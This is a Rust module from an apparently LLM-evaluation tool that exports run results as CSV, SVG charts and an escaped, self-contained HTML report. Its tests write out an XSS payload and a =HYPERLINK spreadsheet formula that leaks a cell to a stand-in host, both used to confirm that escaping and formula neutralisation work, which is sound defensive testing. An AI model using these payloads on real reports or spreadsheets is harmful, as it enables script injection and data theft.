//! Taking eval results elsewhere: a CSV of every run, a chart's geometry (drawn as SVG by
//! the UI and by the report), and a self-contained HTML report that opens anywhere.
//! Everything from a model or a user is escaped: a report is HTML built from untrusted text.

use super::case_stats::{case_interval, CaseTally};
use super::cases::TestCase;
use super::checks::CheckResult;
use super::report::Report;
use super::report_setup::ReportSetup;
use super::run::JobResult;
use super::stats::percent;
use crate::domain::util::csv::csv_line;

/// Escapes text for HTML element content and quoted attributes.
pub fn html_escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            other => out.push(other),
        }
    }
    out
}

fn outcome_text(r: &CheckResult) -> String {
    match r {
        CheckResult::Pass { score: Some(s), .. } => format!("pass ({s}/5)"),
        CheckResult::Pass { .. } => "pass".into(),
        CheckResult::Fail { score: Some(s), reason } => format!("fail ({s}/5): {reason}"),
        CheckResult::Fail { reason, .. } => format!("fail: {reason}"),
        CheckResult::Error { message } => format!("error: {message}"),
    }
}

/// The Routers that decided in any run, (block id, title), in first-seen order: one column
/// each in the CSV and the report.
pub fn routers_in(results: &[JobResult]) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for r in results {
        for t in &r.routes {
            if !out.iter().any(|(b, _)| *b == t.block) {
                out.push((t.block.clone(), t.title.clone()));
            }
        }
    }
    out
}

/// A run's route at one Router: "flagged — Personal data found: …", or empty.
fn route_text(r: &JobResult, block: &str) -> String {
    r.routes
        .iter()
        .find(|t| t.block == block)
        .map(|t| match &t.reason {
            Some(why) => format!("{} \u{2014} {why}", t.route),
            None => t.route.clone(),
        })
        .unwrap_or_default()
}

/// One row per run: variant, case, repetition, inputs, expected, output, error, the route
/// each Router took (when the flow has Routers), each check's outcome, latency, tokens and
/// cost.
pub fn results_csv(
    variants: &[String],
    inputs: &[String],
    cases: &[TestCase],
    checks: &[String],
    results: &[JobResult],
) -> String {
    let mut header: Vec<String> = vec!["variant".into(), "case".into(), "repetition".into()];
    header.extend(inputs.iter().cloned());
    header.extend(["expected", "output", "run error"].map(String::from));
    let routers = routers_in(results);
    header.extend(routers.iter().map(|(_, title)| format!("route: {title}")));
    header.extend(checks.iter().cloned());
    header
        .extend(["latency ms", "tokens in", "tokens out", "cost usd", "held out", "case pass rate"].map(String::from));
    let mut out = csv_line(&header);
    // Each (variant, case)'s own pass rate over its repetitions: the unit the statistics use.
    let mut tallies: std::collections::BTreeMap<(usize, usize), CaseTally> = std::collections::BTreeMap::new();
    for r in results {
        if let Some(pass) = r.passed() {
            let t = tallies.entry((r.variant, r.case)).or_default();
            t.runs += 1;
            t.passes += usize::from(pass);
        }
    }
    for r in results {
        let case = cases.get(r.case);
        let mut row: Vec<String> = vec![
            variants.get(r.variant).cloned().unwrap_or_default(),
            (r.case + 1).to_string(),
            (r.rep + 1).to_string(),
        ];
        row.extend(inputs.iter().map(|n| case.and_then(|c| c.inputs.get(n)).cloned().unwrap_or_default()));
        row.push(case.and_then(|c| c.expected.clone()).unwrap_or_default());
        row.push(r.output.clone().unwrap_or_default());
        row.push(r.error.clone().unwrap_or_default());
        row.extend(routers.iter().map(|(block, _)| route_text(r, block)));
        for i in 0..checks.len() {
            row.push(r.checks.get(i).map(outcome_text).unwrap_or_default());
        }
        row.push(format!("{:.0}", r.latency_ms));
        row.push(r.input_tokens.to_string());
        row.push(r.output_tokens.to_string());
        row.push(format!("{:.6}", r.cost_usd));
        row.push(if case.is_some_and(|c| c.held_out) { "yes".into() } else { String::new() });
        row.push(tallies.get(&(r.variant, r.case)).map(|t| tally_text(*t)).unwrap_or_default());
        out.push_str(&csv_line(&row));
    }
    out
}

/// One bar of the pass-rate chart, in SVG user units (y grows downwards).
#[derive(Debug, Clone, PartialEq)]
pub struct Bar {
    pub label: String,
    pub value_label: String,
    pub x: f64,
    pub width: f64,
    pub top: f64,
    pub whisker_low: f64,
    pub whisker_high: f64,
}

#[derive(Debug, Clone, PartialEq)]
pub struct PassRateChart {
    pub width: f64,
    pub height: f64,
    /// The y of 0% and of 100%.
    pub baseline: f64,
    pub ceiling: f64,
    pub bars: Vec<Bar>,
}

/// Pass rate per variant as bars with their 95% interval as whiskers.
pub fn pass_rate_chart(report: &Report) -> PassRateChart {
    let (width, height, ceiling, baseline) = (560.0, 260.0, 24.0, 220.0);
    let n = report.variants.len().max(1) as f64;
    let slot = (width - 60.0) / n;
    let bar_width = (slot * 0.55).min(120.0);
    let y = |p: f64| baseline - (baseline - ceiling) * p.clamp(0.0, 1.0);
    let bars = report
        .variants
        .iter()
        .enumerate()
        .map(|(i, v)| {
            let x = 50.0 + slot * i as f64 + (slot - bar_width) / 2.0;
            match v.rate {
                Some(r) => Bar {
                    label: v.name.clone(),
                    value_label: format!("{}%", percent(r.estimate)),
                    x,
                    width: bar_width,
                    top: y(r.estimate),
                    whisker_low: y(r.low),
                    whisker_high: y(r.high),
                },
                None => Bar {
                    label: v.name.clone(),
                    value_label: "no results".into(),
                    x,
                    width: bar_width,
                    top: baseline,
                    whisker_low: baseline,
                    whisker_high: baseline,
                },
            }
        })
        .collect();
    PassRateChart { width, height, baseline, ceiling, bars }
}

/// The chart as an SVG string (for the HTML report).
pub fn chart_svg(chart: &PassRateChart) -> String {
    let mut s = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 {w} {h}\" role=\"img\" aria-label=\"Pass rate per variant with 95% intervals\" style=\"max-width:{w}px;width:100%\">",
        w = chart.width,
        h = chart.height
    );
    for (p, label) in [(0.0, "0%"), (0.5, "50%"), (1.0, "100%")] {
        let y = chart.baseline - (chart.baseline - chart.ceiling) * p;
        s.push_str(&format!(
            "<line x1=\"44\" x2=\"{}\" y1=\"{y}\" y2=\"{y}\" stroke=\"#d5d9e3\"/><text x=\"38\" y=\"{}\" font-size=\"11\" text-anchor=\"end\" fill=\"#5b6477\">{label}</text>",
            chart.width - 10.0,
            y + 4.0
        ));
    }
    for b in &chart.bars {
        let cx = b.x + b.width / 2.0;
        s.push_str(&format!(
            "<rect x=\"{}\" y=\"{}\" width=\"{}\" height=\"{}\" rx=\"4\" fill=\"#6d5cf5\"/>",
            b.x,
            b.top,
            b.width,
            (chart.baseline - b.top).max(0.0)
        ));
        s.push_str(&format!(
            "<line x1=\"{cx}\" x2=\"{cx}\" y1=\"{}\" y2=\"{}\" stroke=\"#171b26\" stroke-width=\"2\"/><line x1=\"{}\" x2=\"{}\" y1=\"{lo}\" y2=\"{lo}\" stroke=\"#171b26\" stroke-width=\"2\"/><line x1=\"{}\" x2=\"{}\" y1=\"{hi}\" y2=\"{hi}\" stroke=\"#171b26\" stroke-width=\"2\"/>",
            b.whisker_high,
            b.whisker_low,
            cx - 8.0,
            cx + 8.0,
            cx - 8.0,
            cx + 8.0,
            lo = b.whisker_low,
            hi = b.whisker_high
        ));
        s.push_str(&format!(
            "<text x=\"{cx}\" y=\"{}\" font-size=\"13\" font-weight=\"600\" text-anchor=\"middle\" fill=\"#171b26\">{}</text><text x=\"{cx}\" y=\"{}\" font-size=\"12\" text-anchor=\"middle\" fill=\"#5b6477\">{}</text>",
            (b.whisker_high - 6.0).max(12.0),
            html_escape(&b.value_label),
            chart.baseline + 18.0,
            html_escape(&b.label)
        ));
    }
    s.push_str("</svg>");
    s
}

/// A self-contained HTML report: summary, chart, comparisons, checks, and every run.
pub fn html_report(
    title: &str,
    subtitle: &str,
    report: &Report,
    setup: Option<&ReportSetup>,
    checks: &[String],
    cases: &[TestCase],
    results: &[JobResult],
) -> String {
    let e = html_escape;
    let mut body = String::new();
    body.push_str(&format!("<h1>{}</h1><p class=\"sub\">{}</p>", e(title), e(subtitle)));
    if let Some(setup) = setup {
        body.push_str(&setup_html(setup));
    }
    body.push_str("<section><h2>Pass rate</h2>");
    body.push_str(&pass_rate_html(report));
    body.push_str(&chart_svg(&pass_rate_chart(report)));
    for c in &report.comparisons {
        body.push_str(&format!("<p class=\"verdict\">{}</p>", e(&c.verdict)));
        for w in &c.warnings {
            body.push_str(&format!("<p class=\"warn\">{}</p>", e(w)));
        }
    }
    body.push_str(&format!("<p class=\"sub\">{}</p>", e(METHODS_NOTE)));
    body.push_str(&fairness_html(report, cases, results));
    body.push_str("</section><section><h2>Checks</h2><table><tr><th>Variant</th><th>Check</th><th>Pass rate</th><th>Errors</th></tr>");
    for v in &report.variants {
        for c in &v.checks {
            let rate = c.rate.map_or_else(|| "n/a".to_string(), |r| r.describe("pass"));
            body.push_str(&format!(
                "<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td></tr>",
                e(&v.name),
                e(&c.name),
                e(&rate),
                c.errors
            ));
        }
    }
    body.push_str("</table></section>");
    body.push_str(&cases_html(report, cases));
    body.push_str("<section><h2>Every run</h2><table><tr><th>Variant</th><th>Case</th><th>Rep</th><th>Output</th>");
    let routers = routers_in(results);
    for (_, title) in &routers {
        body.push_str(&format!("<th>Route: {}</th>", e(title)));
    }
    for c in checks {
        body.push_str(&format!("<th>{}</th>", e(c)));
    }
    body.push_str("</tr>");
    let names: Vec<&str> = report.variants.iter().map(|v| v.name.as_str()).collect();
    for r in results.iter().take(2_000) {
        let case =
            cases.get(r.case).map(|c| c.inputs.values().cloned().collect::<Vec<_>>().join(" | ")).unwrap_or_default();
        let output = match (&r.output, &r.error) {
            (_, Some(err)) => format!("Run error: {err}"),
            (Some(o), None) => o.clone(),
            (None, None) => String::new(),
        };
        body.push_str(&format!(
            "<tr><td>{}</td><td title=\"{}\">{}</td><td>{}</td><td class=\"out\">{}</td>",
            e(names.get(r.variant).copied().unwrap_or("")),
            e(&case),
            r.case + 1,
            r.rep + 1,
            e(&output)
        ));
        for (block, _) in &routers {
            body.push_str(&format!("<td class=\"route\">{}</td>", e(&route_text(r, block))));
        }
        for i in 0..checks.len() {
            let (class, text) = match r.checks.get(i) {
                Some(c @ CheckResult::Pass { .. }) => ("pass", outcome_text(c)),
                Some(c @ CheckResult::Fail { .. }) => ("fail", outcome_text(c)),
                Some(c) => ("err", outcome_text(c)),
                None => ("", String::new()),
            };
            body.push_str(&format!("<td class=\"{class}\">{}</td>", e(&text)));
        }
        body.push_str("</tr>");
    }
    body.push_str("</table></section>");
    format!(
        "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\">\
<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">\
<title>{}</title><style>body{{font:15px/1.5 system-ui,sans-serif;color:#171b26;max-width:1100px;margin:32px auto;padding:0 16px}}\
h1{{margin:0}}.sub{{color:#5b6477;margin-top:4px}}table{{border-collapse:collapse;width:100%;font-size:13px}}\
td,th{{border:1px solid #e2e5ee;padding:6px 8px;text-align:left;vertical-align:top}}th{{background:#f4f5f9}}\
.out{{white-space:pre-wrap;max-width:420px}}.pass{{color:#178a5b}}.fail{{color:#d33a3a}}.err{{color:#b45309}}\
pre{{white-space:pre-wrap;background:#f4f5f9;padding:8px 10px;border-radius:6px;font-size:13px}}.verdict{{font-weight:600}}.warn{{color:#b45309}}section{{margin-top:28px}}</style></head><body>{body}</body></html>",
        e(title)
    )
}

/// How the numbers were computed, in one sentence under every report's comparisons.
pub const METHODS_NOTE: &str = "The test case is the unit: a pass rate is the mean of the cases' own pass rates, and its \
95% interval counts repetitions of a case as the independent observations they are worth. Variants are compared case by \
case (exact sign-flip test, McNemar with one run per case) with Holm's correction when there are several. See docs/evals.md.";

/// The flow, each variant's prompts, models and parameters, and the checks, as HTML.
fn setup_html(setup: &ReportSetup) -> String {
    let e = html_escape;
    let mut out = format!("<section><h2>What ran</h2><p>Flow: <strong>{}</strong></p>", e(&setup.flow));
    for note in &setup.notes {
        out.push_str(&format!("<p>{}</p>", e(note)));
    }
    for v in &setup.variants {
        out.push_str(&format!("<h3>{}</h3><p class=\"sub\">{}</p>", e(&v.name), e(&v.changes)));
        for p in &v.prompts {
            if p.provider == crate::domain::providers::ProviderKind::Demo.id() {
                out.push_str(&format!(
                    "<p><strong>{}</strong>: <span class=\"warn\">{}: written by rules, not by a model</span></p>",
                    e(&p.block),
                    crate::domain::sample::SAMPLE_BADGE
                ));
                continue;
            }
            out.push_str(&format!(
                "<p><strong>{}</strong>: {} {} \u{b7} {}</p>",
                e(&p.block),
                e(&p.provider),
                e(&p.model),
                e(&p.parameters)
            ));
            if !p.system.trim().is_empty() {
                out.push_str(&format!("<p class=\"sub\">System prompt</p><pre>{}</pre>", e(&p.system)));
            }
            out.push_str(&format!("<p class=\"sub\">User prompt</p><pre>{}</pre>", e(&p.user)));
        }
    }
    out.push_str("<h3>Checks</h3><ul>");
    for (name, what) in &setup.checks {
        out.push_str(&format!("<li><strong>{}</strong>: {}</li>", e(name), e(what)));
    }
    out.push_str("</ul></section>");
    out
}

/// The fairness section: per variant and attribute, each group's pass rate and its gap to
/// the first group, paired by original case (empty when no case is a counterfactual copy).
fn fairness_html(report: &Report, cases: &[TestCase], results: &[JobResult]) -> String {
    let e = html_escape;
    let mut out = String::new();
    for (v, variant) in report.variants.iter().enumerate() {
        for r in super::fairness::fairness_reports(results, cases, v) {
            out.push_str(&format!("<h3>{} \u{b7} {}</h3><ul>", e(&r.attribute), e(&variant.name)));
            for g in &r.groups {
                let rate = g.rate.map_or_else(|| "no results yet".to_string(), |i| i.describe("pass"));
                out.push_str(&format!("<li>{}: {}</li>", e(&g.group), e(&rate)));
            }
            out.push_str("</ul>");
            for s in r.sentences() {
                out.push_str(&format!("<p class=\"verdict\">{}</p>", e(&s)));
            }
            for w in r.groups.iter().filter_map(|g| g.versus_first.as_ref()).flat_map(|c| c.warnings()) {
                out.push_str(&format!("<p class=\"warn\">{}</p>", e(&w)));
            }
        }
    }
    if out.is_empty() {
        return out;
    }
    format!(
        "<section><h2>Fairness</h2><p class=\"sub\">Counterfactual copies of each case change only the terms of one group \
(names, pronouns or ages, as listed in the eval). Each group's pass rate is over its copies; the gap to the first group is \
paired by the original case, with the same statistics as the comparison of variants. Groups are defined by the terms \
chosen, which are proxies, not facts about anyone.</p>{out}</section>"
    )
}

/// Each variant's pass rate over cases, consistency and held-out result, as HTML.
fn pass_rate_html(report: &Report) -> String {
    let e = html_escape;
    let mut out = String::new();
    for v in &report.variants {
        let line = v.rate.map_or_else(|| "no results yet".to_string(), |r| r.describe("pass"));
        out.push_str(&format!(
            "<p><strong>{}</strong>: {} over {} cases ({} of {} runs passed; the runs are worth about {} independent ones; {} run errors)</p>",
            e(&v.name),
            e(&line),
            v.case_count,
            v.passes,
            v.evaluated,
            v.effective_n.round(),
            v.run_errors
        ));
        out.push_str(&format!("<p class=\"sub\">{}</p>", e(&v.consistency.describe())));
        if let Some(h) = &v.held_out {
            let rate = h.rate.map_or_else(|| "no results yet".to_string(), |r| r.describe("pass"));
            out.push_str(&format!("<p>Held-out cases ({}): {}</p>", h.cases, e(&rate)));
            if let Some(w) = h.overfitting_warning(v.rate) {
                out.push_str(&format!("<p class=\"warn\">{}</p>", e(&w)));
            }
        }
    }
    out
}

/// One row per case: its inputs and, per variant, how many runs passed with the case's own
/// interval.
fn cases_html(report: &Report, cases: &[TestCase]) -> String {
    let e = html_escape;
    let mut out = String::from("<section><h2>Cases</h2><table><tr><th>Case</th><th>Inputs</th>");
    for v in &report.variants {
        out.push_str(&format!("<th>{}</th>", e(&v.name)));
    }
    out.push_str("</tr>");
    for (i, case) in cases.iter().enumerate().take(2_000) {
        let inputs = case.inputs.values().cloned().collect::<Vec<_>>().join(" | ");
        let label = if case.held_out { format!("{} (held out)", i + 1) } else { (i + 1).to_string() };
        out.push_str(&format!("<tr><td>{}</td><td class=\"out\">{}</td>", e(&label), e(&inputs)));
        for v in &report.variants {
            out.push_str(&format!("<td>{}</td>", e(&v.cases.get(i).map(case_cell).unwrap_or_default())));
        }
        out.push_str("</tr>");
    }
    out.push_str("</table></section>");
    out
}

/// "2 of 3 passed (likely 18–96%)".
pub fn case_cell(c: &super::report::CaseSummary) -> String {
    tally_text(CaseTally { passes: c.passes, runs: c.evaluated })
}

fn tally_text(t: CaseTally) -> String {
    if t.runs == 0 {
        return "no checked runs".to_string();
    }
    let mut s = format!("{} of {} passed", t.passes, t.runs);
    if let Some(i) = case_interval(t) {
        s.push_str(&format!(" (likely {}\u{2013}{}%)", percent(i.low), percent(i.high)));
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::evals::report::summarize;
    use std::collections::BTreeMap;

    fn result(variant: usize, case: usize, output: &str, pass: bool) -> JobResult {
        JobResult {
            variant,
            case,
            rep: 0,
            output: Some(output.into()),
            error: None,
            checks: vec![if pass {
                CheckResult::Pass { score: None, reason: String::new() }
            } else {
                CheckResult::Fail { score: None, reason: "said \"no\", sadly".into() }
            }],
            latency_ms: 120.0,
            input_tokens: 3,
            output_tokens: 2,
            cost_usd: 0.0,
            routes: Vec::new(),
        }
    }

    #[test]
    fn the_html_report_escapes_model_output_and_is_self_contained() {
        let cases =
            vec![TestCase { inputs: BTreeMap::from([("q".into(), "<b>hi</b>".into())]), ..TestCase::default() }];
        let results = vec![result(0, 0, "<script>alert(1)</script><img src=x onerror=alert(2)>", false)];
        let report = summarize(&results, &["Base <v1>".into()], &["No \"no\"".into()], &[false; 1]);
        let mut flow = crate::domain::examples::starter_flow(0);
        flow.meta.title = "Support <b>replies</b>".into();
        let checks = vec![super::super::checks::Check {
            name: "No \"no\"".into(),
            kind: super::super::checks::CheckKind::NotContains { text: "<no>".into(), case_sensitive: false },
        }];
        let setup =
            super::super::report_setup::report_setup(&flow, &[super::super::run::Variant::base("Base <v1>")], &checks);
        let html =
            html_report("Eval <of> flow", "3 cases", &report, Some(&setup), &["No \"no\"".into()], &cases, &results);
        assert!(!html.contains("<script>alert") && !html.contains("<img src=x"), "{html}");
        // What ran: the flow, each prompt's model and text, and what each check asks.
        assert!(html.contains("Flow: <strong>Support &lt;b&gt;replies&lt;/b&gt;</strong>"), "{html}");
        assert!(html.contains("does not contain \u{201c}&lt;no&gt;\u{201d} (any case)"), "{html}");
        assert!(html.contains("User prompt</p><pre>"), "{html}");
        assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
        assert!(html.contains("Base &lt;v1&gt;") && html.contains("Eval &lt;of&gt; flow"));
        assert!(html.contains("default-src 'none'"), "the report loads nothing from anywhere");
        assert!(html.contains("<svg") && html.contains("0% pass, likely between 0% and 79%"));
    }

    #[test]
    fn results_csv_has_a_row_per_run() {
        let cases = vec![TestCase {
            inputs: BTreeMap::from([("q".into(), "a, b".into())]),
            expected: Some("yes".into()),
            note: String::new(),
            ..TestCase::default()
        }];
        let csv = results_csv(
            &["Base".into()],
            &["q".into()],
            &cases,
            &["Says yes".into()],
            &[result(0, 0, "no\nreally", false)],
        );
        let mut lines = csv.split("\r\n");
        assert_eq!(
            lines.next(),
            Some(
                "variant,case,repetition,q,expected,output,run error,Says yes,latency ms,tokens in,tokens out,cost usd,held out,case pass rate"
            )
        );
        assert_eq!(
            lines.next(),
            Some("Base,1,1,\"a, b\",yes,\"no\nreally\",,\"fail: said \"\"no\"\", sadly\",120,3,2,0.000000,,0 of 1 passed")
        );
    }

    #[test]
    fn results_csv_neutralises_formulas_from_model_output() {
        let cases = vec![TestCase {
            inputs: BTreeMap::from([("q".into(), "@cmd".into())]),
            expected: Some("=1".into()),
            note: String::new(),
            ..TestCase::default()
        }];
        let mut r = result(0, 0, "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", false);
        r.error = Some("-boom".into());
        let csv = results_csv(&["+Variant".into()], &["q".into()], &cases, &["=check".into()], &[r]);
        let mut lines = csv.split("\r\n");
        let header = lines.next().unwrap_or_default();
        assert!(header.contains(",'=check,"), "{header}");
        let row = lines.next().unwrap_or_default();
        assert!(
            row.starts_with(
                "'+Variant,1,1,'@cmd,'=1,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\",'-boom,"
            ),
            "{row}"
        );
        // Every cell, read back as a spreadsheet would, starts with no formula character.
        let rows = crate::domain::util::csv::parse_rows(&csv.replace("'", "\u{1}"), ',').expect("parses");
        for cell in rows.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
            assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
        }
    }

    #[test]
    fn chart_bars_follow_rates_and_intervals() {
        let results: Vec<JobResult> = (0..10).map(|c| result(0, c, "x", c < 7)).collect();
        let report = summarize(&results, &["Base".into()], &["c".into()], &[false; 10]);
        let chart = pass_rate_chart(&report);
        let bar = &chart.bars[0];
        assert_eq!(bar.value_label, "70%");
        assert!(bar.whisker_high < bar.top && bar.top < bar.whisker_low && bar.whisker_low < chart.baseline);
        assert!((chart.baseline - bar.top) / (chart.baseline - chart.ceiling) - 0.7 < 1e-9);
    }
}

/// How often each score (1 to 5) was given by one model-graded check, per variant.
#[derive(Debug, Clone, PartialEq)]
pub struct ScoreDistribution {
    pub check: String,
    /// (variant name, counts of scores 1..=5)
    pub variants: Vec<(String, [usize; 5])>,
}

/// Score counts for every check that has scores (the model-graded ones).
pub fn score_distributions(results: &[JobResult], variants: &[String], checks: &[String]) -> Vec<ScoreDistribution> {
    let mut out = Vec::new();
    for (i, check) in checks.iter().enumerate() {
        let mut per: Vec<(String, [usize; 5])> = variants.iter().map(|v| (v.clone(), [0; 5])).collect();
        let mut any = false;
        for r in results {
            let score = match r.checks.get(i) {
                Some(CheckResult::Pass { score: Some(s), .. } | CheckResult::Fail { score: Some(s), .. }) => *s,
                _ => continue,
            };
            if let (Some((_, counts)), Some(slot)) = (per.get_mut(r.variant), usize::from(score).checked_sub(1)) {
                if let Some(c) = counts.get_mut(slot) {
                    *c += 1;
                    any = true;
                }
            }
        }
        if any {
            out.push(ScoreDistribution { check: check.clone(), variants: per });
        }
    }
    out
}

/// One variant on the quality-versus-speed-and-cost chart.
#[derive(Debug, Clone, PartialEq)]
pub struct TradeoffPoint {
    pub label: String,
    pub pass_rate: f64,
    pub low: f64,
    pub high: f64,
    pub median_seconds: f64,
    pub cost_per_run_usd: f64,
}

pub fn tradeoffs(report: &Report) -> Vec<TradeoffPoint> {
    report
        .variants
        .iter()
        .filter_map(|v| {
            let rate = v.rate?;
            Some(TradeoffPoint {
                label: v.name.clone(),
                pass_rate: rate.estimate,
                low: rate.low,
                high: rate.high,
                median_seconds: v.latency_p50_ms.unwrap_or(0.0) / 1000.0,
                cost_per_run_usd: if v.runs == 0 { 0.0 } else { v.cost_usd / v.runs as f64 },
            })
        })
        .collect()
}

#[cfg(test)]
mod chart_tests {
    use super::*;
    use crate::domain::evals::report::summarize;

    fn judged(variant: usize, case: usize, score: u8) -> JobResult {
        let check = if score >= 4 {
            CheckResult::Pass { score: Some(score), reason: String::new() }
        } else {
            CheckResult::Fail { score: Some(score), reason: String::new() }
        };
        JobResult {
            variant,
            case,
            rep: 0,
            output: Some(String::new()),
            error: None,
            checks: vec![CheckResult::Pass { score: None, reason: String::new() }, check],
            latency_ms: 1500.0,
            input_tokens: 0,
            output_tokens: 0,
            cost_usd: 0.002,
            routes: Vec::new(),
        }
    }

    #[test]
    fn scores_are_counted_per_variant_for_graded_checks_only() {
        let results = vec![judged(0, 0, 5), judged(0, 1, 5), judged(0, 2, 2), judged(1, 0, 3)];
        let d = score_distributions(&results, &["A".into(), "B".into()], &["Plain".into(), "Rubric".into()]);
        assert_eq!(d.len(), 1, "the plain check has no scores");
        assert_eq!(d[0].check, "Rubric");
        assert_eq!(d[0].variants[0], ("A".to_string(), [0, 1, 0, 0, 2]));
        assert_eq!(d[0].variants[1], ("B".to_string(), [0, 0, 1, 0, 0]));
        let report = summarize(&results, &["A".into(), "B".into()], &["Plain".into(), "Rubric".into()], &[false; 3]);
        let t = tradeoffs(&report);
        assert_eq!(t.len(), 2);
        assert!((t[0].median_seconds - 1.5).abs() < 1e-9 && (t[0].cost_per_run_usd - 0.002).abs() < 1e-12);
    }
}
